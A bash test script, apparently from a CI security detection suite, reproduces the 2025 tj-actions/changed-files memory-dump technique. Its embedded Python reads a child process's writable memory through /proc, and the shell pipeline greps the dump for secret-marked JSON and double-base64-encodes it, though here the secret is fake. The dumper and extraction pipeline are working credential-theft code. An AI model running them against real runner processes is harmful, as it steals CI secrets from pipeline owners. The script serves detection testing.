#!/bin/bash
# technique: T1003.007 OS Credential Dumping: Proc Filesystem
# reproduces: tj-actions/changed-files (2025, memdump of Runner.Worker): memdump.py walked /proc/PID/maps and read /proc/PID/mem, and the step grepped the dump for '"NAME":{"value":"...","isSecret":true}'; here the target is a process of the job itself
# expect: read-memory-of-process-in-job ^python3(\.[0-9]+)?$
# exec-borne: no
#
# The "runner" is a child holding a fake secret in memory; the dumper
# reads its writable mappings, the pipeline extracts the secret and
# double-base64-encodes it for the log, as the compromised action did.
set -u

command -v python3 >/dev/null 2>&1 || { echo "python3 not installed" >&2; exit 77; }

work="${BW_ATTACK_TMP:?}/memdump"
mkdir -p "$work"
trap 'rm -rf "$work"' EXIT

cat >"$work/memdump.py" <<'PY'
import re
import subprocess
import sys
import time

# The stand-in for Runner.Worker: keeps a secret in its heap for a while.
holder = subprocess.Popen(
    [sys.executable, "-c",
     "import sys,time; s=''.join(['{\"BW_FAKE_TOKEN\":{\"value\":\"', 'not-a-real-secret-0123', '\",\"isSecret\":true}}']);"
     "sys.stdout.write('ready\\n'); sys.stdout.flush(); time.sleep(5)"],
    stdout=subprocess.PIPE)
holder.stdout.readline()
pid = holder.pid

region = re.compile(r"([0-9a-f]+)-([0-9a-f]+) r")
try:
    with open("/proc/%d/maps" % pid) as maps, open("/proc/%d/mem" % pid, "rb", 0) as mem:
        for line in maps:
            m = region.match(line)
            if not m or "rw" not in line.split()[1]:
                continue
            start, end = int(m.group(1), 16), int(m.group(2), 16)
            try:
                mem.seek(start)
                sys.stdout.buffer.write(mem.read(end - start))
            except (OSError, ValueError, OverflowError):
                continue
finally:
    holder.kill()
    holder.wait()
PY

leaked=$(python3 "$work/memdump.py" | tr -d '\0' |
	grep -aoE '"[^"]+":\{"value":"[^"]*","isSecret":true\}' | sort -u |
	base64 -w 0 | base64 -w 0)
echo "leaked ${#leaked} bytes of secrets"
[ -n "$leaked" ]
